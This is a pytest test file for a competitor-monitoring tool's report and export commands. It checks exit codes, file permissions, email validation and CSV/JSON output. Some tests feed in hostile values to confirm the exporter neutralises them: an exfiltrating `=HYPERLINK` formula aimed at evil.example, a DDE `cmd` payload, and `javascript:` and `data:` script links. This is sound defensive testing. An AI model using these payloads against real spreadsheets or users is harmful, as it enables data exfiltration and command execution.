"""The report and export commands on a real store: files written, exit codes, plain errors."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from email import message_from_bytes
from pathlib import Path

import pytest

from monitor.config import load_config
from monitor.domain import AccountStats, Counts, Harvest, Post
from monitor.store import Store
from monitor.sync import sync_sources

WEEK_START = datetime(2026, 11, 16, tzinfo=UTC)  # Monday of 2026-W47


def run(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "COLUMNS": "200"}
    return subprocess.run(
        [sys.executable, "-m", "monitor", *args],
        capture_output=True,
        text=True,
        cwd=cwd,
        env=env,
        timeout=120,
    )


@pytest.fixture
def project(tmp_path: Path) -> Path:
    (tmp_path / "config").mkdir()
    (tmp_path / "config" / "monitor.yaml").write_text(
        "organization: {name: Us, sources: [feed: 'https://us.example/feed']}\n"
        "competitors: [{name: Acme, sources: [mastodon: '@acme@social.example']}]\n"
        "report: {outbox: ../out, recipients: [ceo@us.example]}\n"
        "database: sqlite:///../data/monitor.db\n"
    )
    config = load_config(tmp_path / "config" / "monitor.yaml")
    with Store(f"sqlite:///{tmp_path / 'data' / 'monitor.db'}") as store:
        sync_sources(config, store)
        ids = {r.company: r.id for r in store.sources()}
        for company, per_day in (("Us", 1), ("Acme", 3)):
            posts = tuple(
                Post(
                    f"{company}-{day}-{n}",
                    WEEK_START + timedelta(days=day, hours=9 + n),
                    text=f"{company} news {day}",
                    counts=Counts(likes=10 * per_day, replies=2),
                )
                for day in range(7)
                for n in range(per_day)
            )
            observed = WEEK_START + timedelta(days=6, hours=20)  # read during the week
            harvest = Harvest(
                observed_at=observed, posts=posts, account=AccountStats(followers=1000 * per_day)
            )
            store.save_harvest(
                ids[company], harvest, track_engagement_for=timedelta(days=14), next_due_at=observed
            )
    return tmp_path


def test_report_writes_the_archive_and_prints_the_takeaways(project: Path) -> None:
    result = run("report", "--week", "2026-W47", cwd=project)
    assert result.returncode == 0, result.stderr
    assert "week 47" in result.stdout
    assert "Acme" in result.stdout
    for suffix in ("html", "eml", "txt"):
        assert (project / "out" / f"2026-W47.{suffix}").is_file()
    assert (project / "out" / "index.html").is_file()
    message = message_from_bytes((project / "out" / "2026-W47.eml").read_bytes())
    assert "week 47" in message["Subject"]


def test_report_send_without_smtp_leaves_it_in_the_outbox(project: Path) -> None:
    result = run("report", "--week", "2026-W47", "--send", cwd=project)
    assert result.returncode == 0, result.stderr
    assert "No mail server is configured" in result.stdout
    status = run("status", cwd=project)
    assert "2026-W47" in status.stdout and "outbox" in status.stdout


def test_a_bad_week_is_refused_plainly(project: Path) -> None:
    result = run("report", "--week", "2026-W99", cwd=project)
    assert result.returncode == 2
    assert "--week" in result.stderr and "Traceback" not in result.stderr


def test_export_posts_as_csv_and_json(project: Path) -> None:
    as_csv = run("export", "posts", "--week", "2026-W47", cwd=project)
    assert as_csv.returncode == 0, as_csv.stderr
    rows = list(csv.DictReader(io.StringIO(as_csv.stdout)))
    assert len(rows) == 7 + 21
    assert {"company", "platform", "published_at", "likes", "engagement"} <= set(rows[0])
    acme = run("export", "posts", "--company", "Acme", "--format", "json", cwd=project)
    posts = json.loads(acme.stdout)
    assert len(posts) == 21 and {p["company"] for p in posts} == {"Acme"}
    assert posts[0]["engagement"] == 32


def test_export_weekly_to_a_file(project: Path) -> None:
    target = project / "weekly.csv"
    result = run("export", "weekly", "--week", "2026-W47", "--output", str(target), cwd=project)
    assert result.returncode == 0, result.stderr
    rows = {(r["scope"], r["company"]): r for r in csv.DictReader(target.open())}
    assert float(rows[("company", "Acme")]["posts"]) == 21
    assert float(rows[("company", "Us")]["posts"]) == 7


def test_export_refuses_an_unknown_table(project: Path) -> None:
    result = run("export", "everything", cwd=project)
    assert result.returncode == 2
    assert "'posts', 'accounts', 'weekly', 'mentions'" in " ".join(result.stderr.split())


def test_export_mentions_lists_what_others_said_with_safe_links(project: Path) -> None:
    from monitor.domain import Mention

    config = load_config(project / "config" / "monitor.yaml")
    with Store(config.database) as store:  # its path already follows the config file
        acme = next(r.id for r in store.sources() if r.company == "Acme")
        mentions = (
            Mention("https://news.example/acme", WEEK_START, "n1", title="Acme news",
                    counts=Counts(likes=4, replies=1)),
            Mention("javascript:alert(1)", WEEK_START, "n2", title="a trick"),
        )  # fmt: skip
        store.save_harvest(
            acme,
            Harvest(observed_at=WEEK_START, mentions=mentions),
            track_engagement_for=timedelta(days=14),
            next_due_at=WEEK_START,
        )
    result = run("export", "mentions", "--format", "json", cwd=project)
    assert result.returncode == 0, result.stderr
    rows = json.loads(result.stdout)
    assert [(r["company"], r["title"], r["engagement"]) for r in rows] == [
        ("Acme", "Acme news", 5),
        ("Acme", "a trick", None),
    ]
    assert rows[1]["url"] is None  # never a script link


def test_a_missing_config_says_how_to_start(tmp_path: Path) -> None:
    result = run("status", cwd=tmp_path)
    assert result.returncode == 2
    assert "config/example.yaml" in result.stderr


def _hostile_post(project: Path) -> None:
    """A competitor's post whose title, text and link would run in a spreadsheet."""
    config = load_config(project / "config" / "monitor.yaml")
    with Store(f"sqlite:///{project / 'data' / 'monitor.db'}") as store:
        sync_sources(config, store)
        acme = next(r.id for r in store.sources() if r.company == "Acme")
        post = Post(
            "hostile-1",
            WEEK_START + timedelta(days=2),
            url="javascript:alert(document.domain)",
            title='=HYPERLINK("https://evil.example/?"&A1,"Click for the full story")',
            text="+cmd|' /C calc'!A0",
            hashtags=("@sum(1+1)",),
        )
        for title, text, ident, url in (
            ("-2+3", "\tTab first", "hostile-2", "https://acme.example/ok"),
            ("@SUM(A1:A9)", "\rCR first", "hostile-3", "data:text/html,<script>1</script>"),
        ):
            store.save_harvest(
                acme,
                Harvest(
                    observed_at=WEEK_START + timedelta(days=3),
                    posts=(
                        Post(
                            ident, WEEK_START + timedelta(days=2), url=url, title=title, text=text
                        ),
                    ),
                ),
                track_engagement_for=timedelta(days=14),
                next_due_at=WEEK_START,
            )
        store.save_harvest(
            acme,
            Harvest(observed_at=WEEK_START + timedelta(days=3), posts=(post,)),
            track_engagement_for=timedelta(days=14),
            next_due_at=WEEK_START,
        )


def test_csv_export_never_hands_a_spreadsheet_a_formula_or_a_script_link(project: Path) -> None:
    _hostile_post(project)
    target = project / "posts.csv"
    args = ("export", "posts", "--week", "2026-W47", "--company", "Acme", "--output", str(target))
    result = run(*args, cwd=project)
    assert result.returncode == 0, result.stderr
    with target.open(newline="", encoding="utf-8") as stream:
        rows = {r["external_id"]: r for r in csv.DictReader(stream)}
    first, second, third = rows["hostile-1"], rows["hostile-2"], rows["hostile-3"]
    assert (
        first["title"] == "'" + '=HYPERLINK("https://evil.example/?"&A1,"Click for the full story")'
    )
    assert first["text"] == "'+cmd|' /C calc'!A0"
    assert first["hashtags"] == "'@sum(1+1)"
    assert (second["title"], second["text"]) == ("'-2+3", "'\tTab first")
    assert (third["title"], third["text"]) == ("'@SUM(A1:A9)", "'\rCR first")
    # only http(s) addresses are exported as links
    assert (first["url"], second["url"], third["url"]) == ("", "https://acme.example/ok", "")
    # numbers stay numbers: nothing neutralised that is not text
    assert rows["Acme-0-0"]["likes"] == "30"
    as_json = run("export", "posts", "--week", "2026-W47", "--format", "json", cwd=project)
    exported = {p["external_id"]: p for p in json.loads(as_json.stdout)}
    assert exported["hostile-1"]["url"] is None and exported["hostile-3"]["url"] is None


def _modes(root: Path) -> dict[str, int]:
    return {
        str(path.relative_to(root)): path.stat().st_mode & 0o777
        for path in root.rglob("*")
        if path.name != "monitor.yaml" and path.parent.name != "config" and path.name != "config"
    }


def test_database_and_outbox_are_created_readable_by_the_owner_only(tmp_path: Path) -> None:
    (tmp_path / "config").mkdir()
    (tmp_path / "config" / "monitor.yaml").write_text(
        "organization: {name: Us, sources: [feed: 'http://127.0.0.1:9/feed']}\n"
        "competitors: [{name: Acme, sources: [feed: 'http://127.0.0.1:9/acme']}]\n"
        "collect: {max_retries: 0, timeout: 2s}\n"
        "report: {outbox: ../out}\n"
        "database: sqlite:///../data/monitor.db\n"
    )
    os.umask(0o022)  # a usual login shell's umask: files would be world-readable
    try:
        collected = run("collect", cwd=tmp_path)
        reported = run("report", "--week", "2026-W47", cwd=tmp_path)
    finally:
        os.umask(0o022)
    assert collected.returncode == 1 and reported.returncode == 0, reported.stderr
    modes = _modes(tmp_path)
    assert {"data/monitor.db", "out/2026-W47.html", "out/2026-W47.eml", "out/index.html"} <= set(
        modes
    )
    assert {name: mode for name, mode in modes.items() if mode & 0o077} == {}


def test_the_service_unit_sets_an_owner_only_umask() -> None:
    unit = (Path(__file__).resolve().parents[1] / "deploy" / "monitor.service").read_text()
    assert "\nUMask=0077\n" in unit


def test_validate_refuses_an_address_the_mail_server_may_not_take(tmp_path: Path) -> None:
    config = tmp_path / "monitor.yaml"
    base = (
        "organization: {name: Us, sources: [feed: 'https://us.example/feed']}\n"
        "competitors: [{name: Acme, sources: [feed: 'https://acme.example/feed']}]\n"
        "email: {host: mail.us.example, from: monitor@us.example%s}\n"
        "report: {recipients: [ceo@bücher.example, jürgen@us.example]}\n"
    )
    config.write_text(base % "", encoding="utf-8")
    refused = run("validate", "-c", str(config), cwd=tmp_path)
    assert refused.returncode == 2 and "Traceback" not in refused.stderr
    assert "report.recipients.1: jürgen@us.example" in refused.stderr
    assert "SMTPUTF8" in refused.stderr and "bücher" not in refused.stderr
    config.write_text(base % ", smtputf8: true", encoding="utf-8")
    assert run("validate", "-c", str(config), cwd=tmp_path).returncode == 0


def test_export_output_into_a_missing_folder_or_onto_a_folder_is_one_line(project: Path) -> None:
    for target, said in (
        (project / "no" / "such" / "posts.csv", "does not exist"),
        (project, "is a folder"),
    ):
        result = run("export", "posts", "--output", str(target), cwd=project)
        assert result.returncode == 2
        assert said in result.stderr and "Traceback" not in result.stderr
        assert len(result.stderr.strip().splitlines()) == 1


def test_export_company_is_case_insensitive_and_an_unknown_one_exits_2(project: Path) -> None:
    exact = run("export", "posts", "--company", "Acme", "--format", "json", cwd=project)
    loose = run("export", "posts", "--company", "aCME", "--format", "json", cwd=project)
    assert loose.returncode == 0, loose.stderr
    assert json.loads(loose.stdout) == json.loads(exact.stdout) != []
    unknown = run("export", "posts", "--company", "Initech", cwd=project)
    assert unknown.returncode == 2
    assert "no company named 'Initech'" in unknown.stderr and "Acme" in unknown.stderr


def test_export_writes_counts_as_integers_in_csv(project: Path) -> None:
    result = run("export", "weekly", "--week", "2026-W47", cwd=project)
    rows = {(r["scope"], r["company"]): r for r in csv.DictReader(io.StringIO(result.stdout))}
    assert rows[("company", "Acme")]["posts"] == "21"
    assert rows[("company", "Us")]["posts"] == "7"


def test_to_takes_one_valid_address(project: Path) -> None:
    for given in ("ceo@us.example, cfo@us.example", "not-an-address"):
        result = run("report", "--week", "2026-W47", "--to", given, cwd=project)
        assert result.returncode == 2, given
        assert "--to: one e-mail address" in result.stderr


def test_report_pdf_and_pptx_write_both_beside_the_html(project: Path) -> None:
    result = run("report", "--week", "2026-W47", "--pdf", "--pptx", cwd=project)
    assert result.returncode == 0, result.stderr
    for suffix in ("pdf", "pptx"):
        path = project / "out" / f"2026-W47.{suffix}"
        assert path.is_file() and f"Written: {path}" in result.stdout
    assert (project / "out" / "2026-W47.pdf").read_bytes().startswith(b"%PDF-")
    assert (project / "out" / "2026-W47.pptx").read_bytes().startswith(b"PK")  # a zip: OOXML


def test_status_past_40_sources_shows_a_row_a_company_and_the_sources_to_look_at(
    tmp_path: Path,
) -> None:
    """45 sources: each company once with its counts, the one failing source by name."""
    (tmp_path / "config").mkdir()
    feeds = ", ".join(f"feed: 'https://acme.example/{n}.xml'" for n in range(40))
    (tmp_path / "config" / "monitor.yaml").write_text(
        "organization: {name: Us, sources: [feed: 'https://us.example/feed']}\n"
        f"competitors: [{{name: Acme, sources: [{feeds}]}},\n"
        "  {name: Globex, sources: [feed: 'https://globex.example/a', feed: 'https://globex.example/b',"
        " feed: 'https://globex.example/c', feed: 'https://globex.example/d']}]\n"
        "database: sqlite:///../data/monitor.db\n"
    )
    config = load_config(tmp_path / "config" / "monitor.yaml")
    now = datetime.now(UTC)
    with Store(f"sqlite:///{tmp_path / 'data' / 'monitor.db'}") as store:
        sync_sources(config, store)
        for record in store.sources():
            if record.target == "https://globex.example/b":
                store.record_failure(
                    record.id, "not_found", "the feed answers 404", at=now, next_due_at=now
                )
            elif record.company != "Us":
                store.save_harvest(
                    record.id,
                    Harvest(observed_at=now),
                    track_engagement_for=timedelta(days=7),
                    next_due_at=now + timedelta(hours=1),
                )
    summary = run("status", cwd=tmp_path)
    assert summary.returncode == 1, summary.stderr
    lines = summary.stdout.splitlines()
    acme = next(line for line in lines if line.startswith("│ Acme"))
    assert [cell.strip() for cell in acme.split("│")[1:7]] == ["Acme", "40", "0", "40", "0", "0"]
    globex = next(line for line in lines if line.startswith("│ Globex"))
    assert [cell.strip() for cell in globex.split("│")[1:7]] == ["Globex", "4", "0", "3", "1", "0"]
    us = next(line for line in lines if line.startswith("│ Us (us)"))
    assert [cell.strip() for cell in us.split("│")[1:7]] == ["Us (us)", "1", "0", "0", "0", "1"]
    assert "Sources that need a look" in summary.stdout
    assert "globex.example/b" in summary.stdout and "the feed answers 404" in summary.stdout
    assert "acme.example/7.xml" not in summary.stdout
    assert "44 of 45 sources are fine; `monitor status --all` lists each." in summary.stdout
    every = run("status", "--all", cwd=tmp_path)
    assert all(f"acme.example/{n}.xml" in every.stdout for n in range(40))
    assert "Companies" not in every.stdout
